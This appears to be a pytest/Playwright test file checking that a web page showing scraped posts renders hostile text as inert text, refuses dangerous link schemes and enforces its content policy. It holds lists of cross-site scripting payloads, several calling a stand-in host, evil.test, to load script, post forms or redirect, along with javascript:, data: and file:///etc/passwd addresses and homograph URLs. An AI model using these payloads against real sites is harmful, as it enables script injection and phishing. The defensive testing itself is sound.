"""Posts as nobody should send them: the page shows them as text, and nothing of them happens."""

import pytest
from playwright.sync_api import Error, expect

from tests.publish.web import records
from tests.publish.web.browser import PHONE, Visit
from tests.publish.web.conftest import Visitor
from tests.publish.web.records import Record
from tests.publish.web.server import PocketBase

TEXTS = {
    "script": "<script>alert(1)</script><script src=https://evil.test/x.js></script>",
    "handler": "<img src=x onerror=alert(1)><svg/onload=alert(2)><body onload=alert(3)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=x></object>",
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=//evil.test/a.css>",
    "breakout": "\"'`><a href=javascript:alert(1) autofocus onfocus=alert(2)>x</a>",
    "svg": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:x"/></svg>',
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--><img src onerror=alert(1)>'>",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
    "form": "<form action=https://evil.test><input name=id><input name=attributes></form>",
    "base": "<base href=https://evil.test/><meta http-equiv=refresh content=0;url=//evil.test>",
    "direction": "safe \u202egnp.exe\u202c \u2066\u2067 \u200fend",
    "control": "a\u0001b\u0008c\u007fd \ufffe\u2028\u2029 e",
    "combining": "Z" + "\u0315\u0348\u0354\u0335" * 400 + "algo",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "prototype": "__proto__ constructor hasOwnProperty toString",
    "word": "W" * 100_000,
    "wide": "\ufdfd" * 3000,
    "lines": "line\n" * 5000,
}
# Addresses that must stay text.
REFUSED = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://github.com",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://github.com/1",
    "about:blank",
    "view-source:https://github.com",
    "ftp://example.org",
    "mailto:a@example.org",
    "//evil.test/x",
    "/api/collections",
    "?issue=x",
    "#x",
    "",
    "x",
    "https://github.com@evil.test/",
    "https://user:secret@github.com/",
    "https://",
    "http://[",
    "intent://x#Intent;scheme=https;end",
    "filesystem:https://github.com/x",
    "wss://github.com",
)
# Addresses that may be links, with the host that must be seen.
SHOWN = {
    "https://github.com/a/b?c=<d>&e='f'": "github.com",
    "http://news.ycombinator.com:8080/item": "news.ycombinator.com:8080",
    "https://gith\u0443b.com/login": "xn--githb-hze.com",
    "https://\u0430pple.com/": "xn--pple-43d.com",
    "https://github.com\u2215evil.test/": "github.xn--comevil-ef0d.test",
    "https://\u24d6ithub.com/": "github.com",
    "https://github.com.evil.test/": "github.com.evil.test",
    "HTTPS://GitHub.COM/x": "github.com",
    "https:github.com/x": "github.com",
    "https://0x7f000001/": "127.0.0.1",
    "https://evil.test\\@github.com/": "evil.test",
}
HREFS = "links => links.map(link => [link.href, link.protocol, link.rel, link.target])"
# What the page itself never has, wherever it comes from.
FOREIGN = (
    "script:not([src^='./js/']), img, iframe, object, embed, base, link:not([href^='./']), "
    "style, math, video, audio, form:not(#filters, .desk form, .correct form), "
    "[onload], [onerror], [onfocus], [srcdoc]"
)


def hostile(text: str, number: int = 0) -> tuple[Record, list[Record]]:
    """Return an issue, and its post, with the text wherever scraped text can be."""
    issue = records.issue(number)
    url = "https://example.org/" + text[:1000]
    post = records.post(issue, 0, title=text, body=text, source=text[:100], url=url)
    short = dict.fromkeys(("category", "impact_level", "labeled_by"), text[:100])
    point = dict.fromkeys(("day", "items", "heat"), text[:100])
    issue |= short | {"canonical_title": text, "description": text, "sources": [text[:500], None]}
    issue |= {"would_pay_signal": True, "would_pay_because": text}
    issue |= {"quotes": [{"text": text, "url": text[:1000], "source": text[:500]}, None, text[:9]]}
    issue |= {"models": [{"name": text, "kind": text, "posts": text[:9]}, None, text[:9]]}
    change = {"day": text[:9], "kind": "split_from", "issue_id": text[:100], "title": text}
    issue |= {"lineage": [change, None, text[:9]], "place": [0, text[:9]], "topic": text}
    issue |= {"corrections": [{"who": text, "why": text}, None]}
    issue |= {"because": dict.fromkeys(("title", "category", "impact", text[:50]), text)}
    return records.hashed(issue | {"trend": [point, None, text[:9]]}), [post]


@pytest.mark.parametrize("name", TEXTS)
def test_hostile_text_is_shown_as_it_is_and_does_nothing(
    visit: Visit, pocketbase: PocketBase, name: str
) -> None:
    text = TEXTS[name]
    issue, posts = hostile(text)
    pocketbase.put([issue, records.issue(1, heat=0, canonical_title="A quiet one")], posts)
    page = visit.open("?issue=issue-00000")
    expect(page.locator("#evidence-heading")).to_have_text("Evidence: 1 post")
    said = (".quote p", ".paying q", ".why dd:first-of-type")
    for place in ("#issue-title", ".description", ".post-title", ".post-body", *said):
        shown = page.locator(place).first.evaluate("node => node.textContent")
        assert shown == text, place
        assert page.locator(place).first.evaluate("node => node.querySelector(':not(a)')") is None
    assert page.locator(".row-title").first.text_content() == text[:300]
    assert page.locator(FOREIGN).count() == 0
    expect(page.locator(".row").nth(1)).to_contain_text("A quiet one")
    boxes = page.locator(".row").evaluate_all("rows => rows.map(row => row.offsetHeight)")
    assert boxes[0] == boxes[1]
    visit.shot(f"hostile-{name}")


@pytest.mark.slow("hostile posts that arrive live, endless words, records without values")
@pytest.mark.parametrize("name", ["word", "wide", "combining", "lines"])
def test_endless_words_do_not_widen_the_page(
    visitor: Visitor, pocketbase: PocketBase, name: str
) -> None:
    issue, posts = hostile(TEXTS[name])
    pocketbase.put([issue], posts)
    for query in ("", "?issue=issue-00000"):
        visit = visitor(viewport=PHONE)
        page = visit.open(query)
        assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
        if query:
            page.get_by_role("button", name="Show all").press("Enter")
            assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]


def test_evidence_never_links_to_anything_but_the_web(visit: Visit, pocketbase: PocketBase) -> None:
    quotes = [{"text": "It fails.", "url": url, "source": "github"} for url in REFUSED]
    issue = records.issue(0, quotes=quotes)
    posts = [records.post(issue, n, url=url) for n, url in enumerate((*REFUSED, *SHOWN))]
    pocketbase.put([issue], posts)
    page = visit.open("?issue=issue-00000")
    expect(page.locator(".post")).to_have_count(30)
    expect(page.locator(".quote")).to_have_count(len(REFUSED))
    # By keyboard: Chromium on a busy machine now and then loses a click right after it scrolled.
    page.get_by_role("button", name="Show 8 more").press("Enter")
    expect(page.locator(".post")).to_have_count(len(REFUSED) + len(SHOWN))
    links = page.locator("#issue a").evaluate_all(HREFS)
    assert len(links) == len(SHOWN)
    assert {(protocol, rel, target) for _, protocol, rel, target in links} == {
        ("https:", "noopener noreferrer", "_blank"),
        ("http:", "noopener noreferrer", "_blank"),
    }
    hosts = page.locator(".post-host").all_text_contents()
    for url, host in zip(REFUSED, hosts, strict=False):
        assert host == f"Not a web address: {url}"
    for wanted, host in zip(SHOWN.values(), hosts[len(REFUSED) :], strict=True):
        assert host == wanted


@pytest.mark.slow("hostile posts that arrive live, endless words, records without values")
def test_a_hostile_post_that_arrives_live_does_nothing_either(
    visit: Visit, forty: list[Record], pocketbase: PocketBase
) -> None:
    page = visit.open()
    for number, text in enumerate(TEXTS.values()):
        issue, posts = hostile(text, 100 + number)
        pocketbase.put([issue | {"heat": 999}], posts)
    expect(page.locator("#count")).to_contain_text(f"{40 + len(TEXTS)} issues")
    assert page.locator(FOREIGN).count() == 0
    page.locator(".row-link").first.click()
    expect(page.locator(".post")).to_have_count(1)


@pytest.mark.slow("hostile posts that arrive live, endless words, records without values")
def test_records_without_values_are_shown_all_the_same(
    visit: Visit, pocketbase: PocketBase
) -> None:
    pocketbase.put([{"id": "0" * 15, "is_latest": True, "issue_id": "bare"}])
    pocketbase.put(posts=[{"id": "1" * 15, "issue": "0" * 15}])
    page = visit.open("?issue=bare")
    expect(page.locator("#issue-title")).to_have_text("Untitled issue")
    expect(page.locator(".post-title")).to_have_text("Untitled post")
    expect(page.locator(".row-title")).to_have_text("Untitled issue")
    expect(page.locator(".trend, #issue .quiet").first).to_have_text("No trend yet.")


def test_the_policy_of_the_page_stops_what_would_slip_through(
    visit: Visit, forty: list[Record]
) -> None:
    page = visit.open()
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    with pytest.raises(Error, match="Trusted"):
        page.evaluate(
            "document.body.append(Object.assign(document.createElement('script'),"
            "{text: 'alert(1)'}))"
        )
    with pytest.raises(Error, match="fetch"):
        page.evaluate("fetch('http://localhost:9/')")
    page.evaluate("document.body.setAttribute('style', 'display: none')")
    expect(page.locator("#list")).to_be_visible()
    page.wait_for_timeout(200)
    stopped = page.evaluate("trapped.map(violation => violation.split(' ')[1])")
    assert set(stopped) == {"require-trusted-types-for", "connect-src", "style-src-attr"}
    page.evaluate("trapped.length = 0")
    visit.troubles.clear()


def test_the_page_asks_nothing_of_anybody_else_and_sends_no_credentials(
    visit: Visit, forty: list[Record]
) -> None:
    sent: list[str | None] = []
    visit.page.on("request", lambda request: sent.append(request.headers.get("authorization")))
    visit.page.goto(visit.url)
    kept = '{"token": "somebody", "record": {"id": "x"}}'
    visit.page.evaluate("kept => localStorage.setItem('pocketbase_auth', kept)", kept)
    page = visit.open(f"?issue={forty[0]['issue_id']}")
    expect(page.locator(".post")).to_have_count(7)
    page.get_by_label("Search issues and their posts").fill("workaround")
    expect(page.locator(".row").first).to_contain_text("Found in its posts")
    assert len(sent) > 10
    assert set(sent) == {None}
    assert visit.foreign() == []
    assert page.evaluate("document.cookie") == ""
